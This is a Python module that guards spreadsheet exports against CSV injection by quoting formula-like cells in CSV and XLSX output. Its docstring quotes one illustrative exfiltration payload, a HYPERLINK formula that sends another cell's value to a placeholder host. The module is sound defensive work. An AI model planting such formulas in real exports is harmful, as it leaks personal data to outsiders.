"""The only way Court Monitor writes CSV and XLSX cells: text a spreadsheet would run as a formula is
neutralised ("CSV injection", OWASP), numbers stay numbers.

A case reference, court name or username typed as `=HYPERLINK("http://x.example/?c="&B2,"Open")`
would otherwise become a live formula in the file a manager opens, beside dates of birth. Text
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text: in CSV with a
leading `'` (which spreadsheet programs hide and treat as "this is text"), in XLSX as an explicit
string cell marked with Excel's quote prefix (it stays text even when edited).

Writers never call the `csv` module or openpyxl themselves (tests/security/test_spreadsheet_cells.py
checks the imports), so a writer added later cannot forget this. openpyxl is imported by the
functions that write a workbook, not at the top: every `flask` command and server start imports
this module."""
import csv
import re
from collections.abc import Iterable

#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (or DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number written as text ("-3", "+2.5", "1e-3") is a value, not a formula: it stays as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


_FIRST_CHARACTERS = frozenset(FORMULA_STARTS)


def is_formula_like(value) -> bool:
    """Text a spreadsheet program would evaluate instead of showing. (Written for speed: it runs for
    every cell of an export, most of them plain answers.)"""
    return (value.__class__ is str and value[:1] in _FIRST_CHARACTERS
            and _PLAIN_NUMBER.fullmatch(value) is None)


def csv_cell(value):
    """A value as a safe CSV cell: formula-like text gets a leading `'`; everything else is unchanged."""
    if is_formula_like(value):
        return "'" + value
    return value


class CsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow(map(csv_cell, row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook():
    """A write-only openpyxl Workbook (rows stream to temporary XML, memory stays flat); fill it with `append_row`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


def xlsx_cell(sheet, value, *, bold: bool = False):
    """A value as a safe XLSX cell: formula-like text becomes an explicit string cell with the quote
    prefix; numbers, dates and other text pass through (openpyxl writes them as they are)."""
    if not (bold or is_formula_like(value)):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"  # openpyxl made it a formula ("f") because it starts with "="
        cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def append_row(sheet, values: Iterable, *, bold: bool = False) -> None:
    """Append one row of values to a write-only sheet, every cell through `xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, value, bold=bold) for value in values])
